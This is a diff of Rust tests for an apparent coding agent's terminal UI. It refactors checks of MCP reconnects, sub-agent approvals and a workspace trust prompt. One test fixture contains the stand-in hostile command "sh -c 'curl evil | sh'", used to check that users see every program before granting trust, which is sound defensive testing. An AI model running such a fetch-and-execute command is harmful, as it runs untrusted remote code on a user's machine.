@@ -2,27 +2,27 @@
 #![allow(clippy::unwrap_used, clippy::expect_used)] // A test fails by panicking.
 
 use crate::support;
-use crate::support::workbench::{key, screen};
+use crate::support::workbench::{Bench, key, screen};
 
 use std::time::{Duration, Instant, SystemTime};
 
 use crossterm::event::KeyCode;
 use miniagent::config::ApprovalMode;
 use miniagent::protocol::{Event, McpState, Op, SkillInfo};
-use miniagent::tui::app::{APPROVAL_GRACE, App};
+use miniagent::tui::app::{APPROVAL_GRACE, Action, App};
 use miniagent::tui::theme::Theme;
 use pretty_assertions::assert_eq;
 use support::TempDir;
 
-fn app_in(workspace: &TempDir) -> App {
+fn app_in(workspace: &TempDir) -> Bench {
     let start = SystemTime::now() + Duration::from_secs(3600);
-    let mut app = App::new(
+    let mut app = Bench::from(App::new(
         Theme::dark(),
         workspace.path().to_path_buf(),
         ApprovalMode::Ask,
         50,
         start,
-    );
+    ));
     app.now = Instant::now();
     app.on_agent_event(Event::SessionConfigured {
         model: "claude-test".into(),
@@ -66,7 +66,7 @@ fn mcp_overlay_lists_servers_and_reconnects_the_selected_one() {
     app.on_key(key(KeyCode::Down));
     app.on_key(key(KeyCode::Char('r')));
     assert_eq!(
-        app.outbox,
+        app.sent,
         vec![Op::ReconnectMcp {
             server: "everything".into()
         }]
@@ -211,7 +211,7 @@ fn sub_agent_calls_nest_under_the_delegate_call_and_their_approvals_name_it() {
     insta::assert_snapshot!("sub_agent_160x48", screen(&mut app, 160, 48));
     app.on_key(key(KeyCode::Char('y')));
     assert_eq!(
-        app.outbox,
+        app.sent,
         vec![Op::Approval {
             id: "s2".into(),
             decision: miniagent::protocol::Decision::Approve
@@ -239,10 +239,8 @@ fn the_trust_prompt_asks_before_a_workspace_starts_programs() {
     let step = miniagent::tui::app::APPROVAL_GRACE * 3 / 5;
     app.now += step;
     app.on_key(key(KeyCode::Char('y')));
-    assert!(matches!(
-        app.top::<TrustPrompt>(),
-        Some(TrustPrompt { answer: None, .. })
-    ));
+    assert!(app.top::<TrustPrompt>().is_some());
+    assert_eq!(app.actions, vec![]);
     assert_eq!(app.input.text(), "y");
     app.now += step;
     assert!(!app.consent_armed(), "a key restarts the wait");
@@ -257,13 +255,8 @@ fn the_trust_prompt_asks_before_a_workspace_starts_programs() {
     // Other keys do nothing; y answers.
     assert!(!app.on_key(key(KeyCode::Char('x'))));
     app.on_key(key(KeyCode::Char('y')));
-    assert!(matches!(
-        app.top::<TrustPrompt>(),
-        Some(TrustPrompt {
-            answer: Some(true),
-            ..
-        })
-    ));
+    assert!(app.top::<TrustPrompt>().is_none());
+    assert_eq!(app.actions, vec![Action::Trust(true)]);
 }
 
 #[test]
@@ -306,21 +299,14 @@ fn a_trust_prompt_longer_than_the_screen_is_trusted_only_once_all_of_it_was_seen
     );
     // `y` before the end does nothing.
     app.on_key(key(KeyCode::Char('y')));
-    assert!(matches!(
-        app.top::<TrustPrompt>(),
-        Some(TrustPrompt { answer: None, .. })
-    ));
+    assert!(app.top::<TrustPrompt>().is_some());
+    assert_eq!(app.actions, vec![]);
     app.on_key(key(KeyCode::PageDown));
     app.on_key(key(KeyCode::PageDown));
     let end = screen(&mut app, 80, 24);
     insta::assert_snapshot!("trust_long_end_80x24", end);
     assert!(end.contains("zz-last: runs sh -c 'curl evil | sh'"), "{end}");
     app.on_key(key(KeyCode::Char('y')));
-    assert!(matches!(
-        app.top::<TrustPrompt>(),
-        Some(TrustPrompt {
-            answer: Some(true),
-            ..
-        })
-    ));
+    assert!(app.top::<TrustPrompt>().is_none());
+    assert_eq!(app.actions, vec![Action::Trust(true)]);
 }
